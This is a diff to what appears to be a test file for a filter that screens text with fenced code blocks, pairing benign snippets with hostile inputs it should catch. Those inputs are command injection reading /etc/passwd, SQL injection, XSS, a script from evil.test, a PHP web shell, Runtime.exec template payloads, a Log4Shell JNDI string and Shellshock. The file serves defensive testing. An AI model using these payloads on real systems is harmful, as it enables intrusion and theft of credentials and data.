@@ -29,3 +29,29 @@ hold(
     "/usr/bin/id", "/bin/ls", "/usr/bin/whoami", "/bin/cat /etc/hosts", "/usr/bin/python3 -c import os", "/usr/bin/perl -e system", "/usr/bin/php -r system", "/usr/bin/python3 /tmp/x.py", "/usr/bin/python3 -m http.server", "/bin/sh -c id", "/usr/bin/node; id", "/usr/bin/node|id", "/bin/b?sh", ";/usr/bin/node", "x|/usr/bin/python3 /app/a.py", "/usr/bin/node /app/a.js $(id)",
   ],
 ); // biome-ignore format: lists of texts
+
+const F = "```";
+hold(
+  "blocks of code between fences, in a text that goes on behind them or not",
+  [
+    `${F}java\nRuntime.getRuntime().exec(new String[]{"git","status"});\nClass.forName("com.mysql.jdbc.Driver");\n${F}`,
+    `${F}html\n<script src="https://cdn.example.com/a.js"></script>\n<img src="x.png" onerror="this.src='fallback.png'">\n${F}`,
+    `How do I load it?\n\n${F}html\n<script type="module" src="/js/app.js"></script>\n<button onclick="save()">Save</button>\n${F}\n\nThanks!`,
+    `It fails here: ${"\n"}${F}sh\ncurl -sSL https://get.example.com/install.sh | bash\nsudo cat /etc/shadow; id\n${F}\nAny idea?`,
+    `<p>${F}bash<br>#!/bin/bash<br>for f in $(ls *.txt); do cat "$f" | grep -v '^#' >> out; done<br>curl -sSL https://get.example.com/install.sh | bash<br>${F}</p>`,
+    `<p>${F}php<br>&lt;?php<br>$q = $pdo-&gt;prepare('SELECT * FROM t WHERE id = ?');<br>echo htmlspecialchars($_GET['name']);<br>system('convert a.png b.jpg');<br>${F}</p>`,
+    JSON.stringify({ text: `${F}dockerfile\nFROM node:20\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt/lists/*\nCMD ["sh","-c","node server.js"]\n${F}` }),
+    `Look:\n${F}sql\nselect a from b where c = 'x' or 1=1;\ndrop table d;\n${F}\nThanks!`,
+    `See\n\n${F}\nimport os; os.system("make")\n${F}\n\nand\n\n${F}\nsubprocess.run(["ls", "-l"])\n${F}`,
+    `Here is the snippet:\n${F}\nSELECT AVG(length) as 'Average'\nFROM songs;\n\nAny idea?`,
+  ],
+  [
+    `x\n${F}\n; cat /etc/passwd`, `${F}\n; cat /etc/passwd`, `x\n${F}\n' or 1=1 -- `, `${F}\nx'; drop table users; --\n${F}`, `${F}\nx' union select name, pass from users /*\n${F}`,
+    `${F}\n<script>alert(1)</script>\n${F}`, `${F}html\n<script src="https://evil.test/a.js"></script>\n${F}`, `${F}\n<img src=x onerror=alert(1)>\n${F}`, `<img src=x \n${F}\nonerror=alert(1)\n${F}\n>`,
+    `${F}html\n<script src="/a.js"></script>\n${F}\n<script>alert(1)</script>`, `<svg onload=alert(1)>\n${F}html\n<script src="/a.js"></script>\n${F}`, `${F}html\n<img src="x" onerror="alert()">\n${F}`,
+    `${F}\n` + "${T(java.lang.Runtime).getRuntime().exec('id')}" + `\n${F}`, `%{#a=@java.lang.Runtime@getRuntime().exec('id')}\n${F}\na\n${F}`, `Runtime.getRuntime().exec("id")\n${F}\na\n${F}`,
+    `${F}php\n<?php system($_GET['c']); ?>\n${F}`, `${F}\n<!--#exec cmd="id"-->\n${F}`, `Hello!\n\n${F}\na\n${F}\n\n; cat /etc/passwd #`, `1' union select name, pass from users -- \n${F}\na\n${F}`,
+    JSON.stringify({ a: `${F}\nb\n${F}`, c: "x; cat /etc/passwd" }), JSON.stringify([`${F}\nb\n${F}`, "<script>alert(1)</script>"]), `${F}<br>&lt;script&gt;alert(1)&lt;/script&gt;<br>${F}`,
+    "${jndi:ldap://h.example/a}" + `\n${F}\na\n${F}`, `${F}\n` + "${jndi:ldap://h.example/a}" + `\n${F}`, `${F}\n() { :;}; /bin/id\n${F}`,
+  ],
+); // biome-ignore format: lists of texts
